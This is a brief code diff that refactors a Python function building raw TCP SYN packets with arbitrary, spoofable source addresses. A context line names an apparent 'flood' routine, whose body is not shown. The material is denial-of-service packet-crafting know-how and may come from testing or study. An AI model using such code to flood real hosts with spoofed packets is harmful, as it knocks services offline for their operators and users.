@@ -20,7 +20,8 @@ def syn(source, port, flags=2):
     addresses = socket.inet_aton(source) + socket.inet_aton(HERE)
     tcp = struct.pack("!HHIIBBHHH", port, PORT, 1000, 0, 5 << 4, flags, 1024, 0, 0)
     check = checksum(addresses + struct.pack("!HH", 6, len(tcp)) + tcp)
-    return struct.pack("!BBHHHBBH", 0x45, 0, 40, 1, 0, 64, 6, 0) + addresses + tcp[:16] + struct.pack("!H", check) + tcp[18:]
+    ip = struct.pack("!BBHHHBBH", 0x45, 0, 40, 1, 0, 64, 6, 0)
+    return ip + addresses + tcp[:16] + struct.pack("!H", check) + tcp[18:]
 
 
 def flood(sources, flags=2):
